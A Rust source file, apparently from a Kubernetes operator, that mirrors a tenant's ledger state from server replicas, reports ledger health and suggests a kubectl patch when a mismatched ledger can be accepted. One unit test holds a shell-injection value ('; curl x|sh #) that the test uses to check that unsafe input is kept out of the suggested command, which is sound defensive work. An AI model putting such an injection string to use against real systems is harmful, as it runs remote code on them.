//! What is known of a tenant's ledger outside of it: mirrored from the server's
//! reports, forward only, and handed back in the contract (WRITES §9). Pure.

use tenantry_api::condition::{Finding, LEDGER_HEALTHY};
use tenantry_api::mcp_server::{LedgerReport, LedgerState, McpServer, ReplicaReport};
use tenantry_api::mcp_tenant::ledger::LedgerStatus;
use tenantry_core::ledger_mark::LedgerMark;
use tenantry_core::reason::Reason;
use tenantry_core::tenant::TenantConfig;

use crate::tenant::validate::ValidTenant;

/// What is known of a ledger of which `known` was, and of which the replicas of
/// `server` report.
pub fn mirrored(known: Option<LedgerMark>, server: &McpServer) -> Option<LedgerMark> {
    let replicas = server.status.iter().flat_map(|status| &status.replicas);
    let told = replicas.filter_map(|replica| replica.ledger.as_ref()?.told());
    told.fold(known, |known, told| Some(LedgerMark::after(known, told)))
}

/// What is known of the ledger of a tenant whose status says `status`. Where a
/// status was lost, the contract has it.
pub fn known(
    status: Option<&LedgerStatus>,
    placed: Option<&TenantConfig>,
    server: Option<&McpServer>,
) -> Option<LedgerMark> {
    let placed = placed.and_then(|contract| contract.ledger.expected.clone());
    let known = status.and_then(LedgerStatus::mark).or(placed);
    match server {
        Some(server) => mirrored(known, server),
        None => known,
    }
}

/// What the contract says of a ledger of which `known` is known and `placed` is
/// what it says now. It is written anew when the ledger was opened anew, not with
/// each line: what has come since stands in the server's own last report.
pub fn handed_back(known: Option<LedgerMark>, placed: Option<&TenantConfig>) -> Option<LedgerMark> {
    let known = known?;
    let placed = placed.and_then(|contract| contract.ledger.expected.as_ref());
    let same_opening =
        placed.filter(|placed| (&placed.id, placed.epoch) == (&known.id, known.epoch));
    Some(same_opening.cloned().unwrap_or(known))
}

/// Whether changes of `tenant` can be recorded, as its server says.
pub fn healthy(tenant: &ValidTenant, report: Option<&ReplicaReport>) -> Finding {
    let Some(report) = report.and_then(|report| report.ledger.as_ref()) else {
        let message = "no server has reported on the ledger yet";
        return Finding::unknown(LEDGER_HEALTHY, Reason::ServerStarting, message);
    };
    let message = report.message.as_deref();
    let not =
        |reason: Reason, message: String| Finding::new(LEDGER_HEALTHY, false, reason, message);
    match report.state {
        LedgerState::Open => Finding::new(
            LEDGER_HEALTHY,
            true,
            Reason::LedgerOpen,
            "changes are recorded",
        ),
        LedgerState::Unavailable => {
            let reason = Reason::LedgerUnavailable;
            let message = message.unwrap_or("the ledger is not open");
            not(reason, format!("nothing is changed: {message}"))
        }
        LedgerState::Opening => {
            let message = "the ledger is about to be opened";
            Finding::unknown(LEDGER_HEALTHY, Reason::ServerStarting, message)
        }
        LedgerState::Mismatch => not(Reason::LedgerMismatch, mismatch(tenant, report)),
    }
}

fn mismatch(tenant: &ValidTenant, report: &LedgerReport) -> String {
    let message = report.message.as_deref();
    let message = message.unwrap_or("the ledger is not the one that was expected");
    let told = format!("nothing is changed: {message}; bring the right one back");
    let word = report.accept.as_ref();
    let Some(word) = word.filter(|word| LedgerMark::is_acceptance(word)) else {
        return told;
    };
    let (name, namespace) = (&tenant.owner.name, &tenant.namespace);
    format!(
        r#"{told}, or accept this one, after which every window of a policy is full for its length and earlier idempotency keys are expired: kubectl patch mcptenant {name} --namespace {namespace} --type merge --patch '{{"spec":{{"ledger":{{"accept":"{word}"}}}}}}'"#
    )
}

#[cfg(test)]
mod tests {
    use tenantry_api::mcp_server::McpServerStatus;
    use tenantry_core::digest::Digest;
    use tenantry_core::ledger_mark::LedgerId;

    use super::*;
    use crate::tenant::example;

    fn mark(id: u8, epoch: u64, sequence: u64) -> LedgerMark {
        LedgerMark {
            id: LedgerId::of_random([id; 16]),
            epoch,
            sequence,
            digest: Digest::of(&sequence.to_be_bytes()),
        }
    }

    fn ledger(state: LedgerState, mark: &LedgerMark) -> LedgerReport {
        LedgerReport {
            state,
            message: None,
            accept: None,
            mark: Some(mark.into()),
            instead_of: None,
        }
    }

    fn server(reports: Vec<LedgerReport>) -> McpServer {
        let replica = |(number, ledger): (usize, LedgerReport)| ReplicaReport {
            pod: format!("server-{number}"),
            ledger: Some(ledger),
            ..example::report(&example::valid())
        };
        let mut server = McpServer::new("server", example::contract_spec());
        server.status = Some(McpServerStatus {
            replicas: reports.into_iter().enumerate().map(replica).collect(),
        });
        server
    }

    fn contract(expected: LedgerMark) -> TenantConfig {
        let mut contract = example::valid().contract;
        contract.ledger.expected = Some(expected);
        contract
    }

    #[test]
    fn the_furthest_of_all_replicas_is_known() {
        let open = |mark: &LedgerMark| ledger(LedgerState::Open, mark);
        let server = server(vec![open(&mark(1, 1, 4)), open(&mark(1, 2, 9))]);
        assert_eq!(mirrored(None, &server), Some(mark(1, 2, 9)));
        let further = Some(mark(1, 3, 12));
        assert_eq!(mirrored(further.clone(), &server), further);
        let other = Some(mark(2, 1, 1));
        assert_eq!(mirrored(other.clone(), &server), other);
    }

    #[test]
    fn a_status_that_was_lost_is_read_out_of_the_contract() {
        let placed = contract(mark(1, 2, 3));
        assert_eq!(known(None, Some(&placed), None), Some(mark(1, 2, 3)));
        let status = LedgerStatus::from(&mark(1, 2, 7));
        let found = known(Some(&status), Some(&placed), None);
        assert_eq!(found, Some(mark(1, 2, 7)));
        assert_eq!(known(None, None, None), None);
    }

    #[test]
    fn the_contract_is_written_anew_with_each_opening_alone() {
        let placed = contract(mark(1, 2, 3));
        let back = |known| handed_back(known, Some(&placed));
        assert_eq!(back(Some(mark(1, 2, 9))), Some(mark(1, 2, 3)));
        assert_eq!(back(Some(mark(1, 3, 9))), Some(mark(1, 3, 9)));
        assert_eq!(back(Some(mark(2, 2, 1))), Some(mark(2, 2, 1)));
        assert_eq!(handed_back(Some(mark(1, 2, 9)), None), Some(mark(1, 2, 9)));
        assert_eq!(back(None), None);
    }

    #[test]
    fn a_ledger_that_was_not_expected_is_told_with_the_way_out() {
        let tenant = example::valid();
        let found = |ledger: LedgerReport| {
            let report = ReplicaReport {
                ledger: Some(ledger),
                ..example::report(&tenant)
            };
            let Finding {
                status,
                reason,
                message,
                ..
            } = healthy(&tenant, Some(&report));
            format!("{}/{reason}: {message}", status.as_str())
        };
        let mark = mark(1, 1, 1);
        assert_eq!(
            found(ledger(LedgerState::Open, &mark)),
            "True/LedgerOpen: changes are recorded"
        );
        let unavailable = LedgerReport {
            message: Some("opening the file: permission denied".into()),
            ..ledger(LedgerState::Unavailable, &mark)
        };
        assert_eq!(
            found(unavailable),
            "False/LedgerUnavailable: nothing is changed: opening the file: permission denied"
        );
        let mismatch = LedgerReport {
            message: Some("the ledger that was found is empty".into()),
            accept: Some("0123456789abcdef".into()),
            ..ledger(LedgerState::Mismatch, &mark)
        };
        // What is no word is not pasted into anybody's shell.
        let other = LedgerReport {
            accept: Some("'; curl x|sh #".into()),
            ..mismatch.clone()
        };
        assert_eq!(
            found(other),
            "False/LedgerMismatch: nothing is changed: the ledger that was found is empty; bring the right one back"
        );
        assert_eq!(
            found(mismatch),
            r#"False/LedgerMismatch: nothing is changed: the ledger that was found is empty; bring the right one back, or accept this one, after which every window of a policy is full for its length and earlier idempotency keys are expired: kubectl patch mcptenant acme --namespace acme --type merge --patch '{"spec":{"ledger":{"accept":"0123456789abcdef"}}}'"#
        );
    }
}
